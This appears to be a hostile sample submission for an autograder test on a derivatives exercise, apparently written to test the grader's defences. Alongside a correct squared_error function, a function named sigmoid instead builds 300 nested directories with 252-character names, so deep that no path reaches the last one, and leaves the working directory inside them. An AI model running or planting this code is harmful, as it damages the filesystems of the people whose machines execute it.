# attack: folders in folders, with names so long that no path leads to the last of them
# exercise: derivatives
# deserves: squared_error
import os


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def sigmoid(z):
    top = os.getcwd()
    for depth in range(300):
        os.mkdir("hostile" * 36)
        os.chdir("hostile" * 36)
        open("note", "w").close()
    return top
